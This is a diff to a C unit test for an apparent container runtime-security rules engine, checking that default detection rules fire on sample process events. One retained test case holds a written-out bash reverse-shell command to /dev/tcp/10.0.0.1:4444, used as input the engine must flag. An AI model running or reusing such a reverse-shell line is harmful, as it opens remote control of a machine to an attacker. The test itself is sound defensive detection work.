@@ -657,14 +657,11 @@ static void test_default_rules_fire(void **state)
 	assert_int_equal(rules_engine_add_default(e), 0);
 	assert_int_equal(rules_engine_compile(e), 0);
 	assert_int_equal(rules_engine_cannot_fire_count(e), 0); /* every default rule can fire */
-	expect(e, exec_event("/usr/bin/apt-get", "apt-get install -y curl", 0, 0, "sh", NULL, "debian", false),
-	       "Package manager run in container", true);
-	expect(e, exec_event("/usr/bin/apt-get", "apt-get install -y curl", 0, 0, "sh", NULL, NULL, false),
-	       "Package manager run in container", false);
+	/* each rule's own cases: tests/unit/test_default_rules.c */
 	expect(e, exec_event("/tmp/.x/kworker", "kworker", 0, 0, "sh", NULL, NULL, false),
-	       "Program run from a writable temporary directory", true);
+	       "Program run from a temporary directory", true);
 	expect(e, exec_event("/tmpfoo/kworker", "kworker", 0, 0, "sh", NULL, NULL, false),
-	       "Program run from a writable temporary directory", false);
+	       "Program run from a temporary directory", false);
 	expect(e, exec_event("/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0, 0, "sh", NULL, NULL, false),
 	       "Reverse shell command line", true);
 	rules_engine_free(e);
